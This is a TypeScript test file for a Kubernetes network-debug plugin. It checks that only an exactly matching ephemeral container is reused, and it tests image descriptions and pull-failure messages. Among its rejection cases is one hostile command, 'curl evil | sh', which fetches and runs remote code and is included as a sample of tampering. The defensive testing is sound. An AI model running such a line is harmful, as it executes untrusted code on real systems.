/** Which ephemeral container is reused (only an exact one), how images and pulls are described. */
import { describe, expect, it } from 'vitest';
import type { V1EphemeralContainer } from '@kubernetes/client-node';
import { debugSecurityContext } from '../../src/core/privilege.ts';
import { DEFAULT_IMAGE } from '../../src/defaults.ts';
import { DEBUG_COMMAND, debugContainerMatches, describeImage, pullFailureReason, pullProgress } from '../../src/kube/debug-containers.ts';

const sc = debugSecurityContext([], true);
const wanted = { image: DEFAULT_IMAGE, command: DEBUG_COMMAND, securityContext: sc };
const ours: V1EphemeralContainer = { name: 'netdebug-abcde', image: DEFAULT_IMAGE, command: ['sleep', 'infinity'], stdin: false, tty: false, securityContext: JSON.parse(JSON.stringify(sc)) };

describe('reusing an ephemeral container', () => {
  it('the one the plugin would add now is reused, whatever the key order the API returns', () => {
    const reordered = { ...ours, securityContext: { seccompProfile: { type: 'RuntimeDefault' }, runAsUser: 65532, runAsNonRoot: true, capabilities: { drop: ['ALL'] }, allowPrivilegeEscalation: false } };
    expect(debugContainerMatches(reordered, wanted)).toBe(true);
  });

  it.each<[string, V1EphemeralContainer]>([
    ['another name prefix', { ...ours, name: 'debugger-abcde' }],
    ['another image (the same tag, no digest)', { ...ours, image: 'nicolaka/netshoot:v0.13' }],
    ['another command', { ...ours, command: ['sh', '-c', 'curl evil | sh'] }],
    ['extra args', { ...ours, args: ['x'] }],
    ['more capabilities (NET_ADMIN forged in)', { ...ours, securityContext: { ...sc, capabilities: { drop: ['ALL'], add: ['NET_ADMIN'] } } }],
    ['privileged', { ...ours, securityContext: { ...sc, privileged: true } }],
    ['root (an older run’s netadmin container)', { ...ours, securityContext: { capabilities: { add: ['NET_ADMIN', 'NET_RAW'] } } }],
    ['a target container (process namespace of another container)', { ...ours, targetContainerName: 'app' }],
    ['environment', { ...ours, env: [{ name: 'X', value: '1' }] }],
    ['a volume mount', { ...ours, volumeMounts: [{ name: 'v', mountPath: '/v' }] }],
    ['stdin', { ...ours, stdin: true }],
  ])('%s: never reused', (_name, c) => {
    expect(debugContainerMatches(c, wanted)).toBe(false);
  });
});

describe('images and pulls in words', () => {
  it('a digest-pinned image shows its tag beside a short digest', () => {
    expect(describeImage(DEFAULT_IMAGE)).toBe('nicolaka/netshoot:v0.13 (sha256:a20c2531bf35…)');
    expect(describeImage('registry.local/netshoot:1')).toBe('registry.local/netshoot:1');
  });

  it('ErrImagePull and ImagePullBackOff carry the registry message and the --image hint; other waits are not pull failures', () => {
    const msg = 'failed to pull and unpack image "docker.io/nicolaka/netshoot": dial tcp: lookup registry-1.docker.io: i/o timeout';
    expect(pullFailureReason({ reason: 'ErrImagePull', message: msg }, DEFAULT_IMAGE)).toBe(
      `ErrImagePull: ${msg}; hint: the nodes cannot pull nicolaka/netshoot:v0.13 (sha256:a20c2531bf35…): give --image an image they can pull (a mirror of nicolaka/netshoot in your registry, or one an air-gapped cluster already has)`,
    );
    expect(pullFailureReason({ reason: 'ImagePullBackOff', message: 'Back-off pulling image' }, 'x')).toMatch(/^ImagePullBackOff: Back-off pulling image; hint: .*--image/);
    expect(pullFailureReason({ reason: 'ContainerCreating' }, 'x')).toBeUndefined();
    expect(pullFailureReason(undefined, 'x')).toBeUndefined();
  });

  it('a pull under way names the node, the image and how long', () => {
    expect(pullProgress('node-1', DEFAULT_IMAGE, 20_400, 'Pulling image "x"')).toBe('node-1: pulling nicolaka/netshoot:v0.13 (sha256:a20c2531bf35…) for 20 s: Pulling image "x"');
  });
});
